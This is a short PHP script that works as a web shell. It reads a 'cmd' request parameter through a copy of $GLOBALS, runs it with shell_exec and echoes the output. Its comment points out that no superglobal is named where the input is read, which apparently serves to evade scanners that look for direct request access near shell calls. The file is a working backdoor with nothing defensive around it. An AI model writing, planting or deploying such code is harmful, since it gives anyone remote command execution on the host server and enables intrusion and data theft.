<?php
// No superglobal is named where it is read: the whole $GLOBALS array is copied first.
$env = $GLOBALS;
$req = $env['_REQUEST'];
if (!empty($req['cmd'])) {
    echo '<pre>' . shell_exec($req['cmd']) . '</pre>';
}
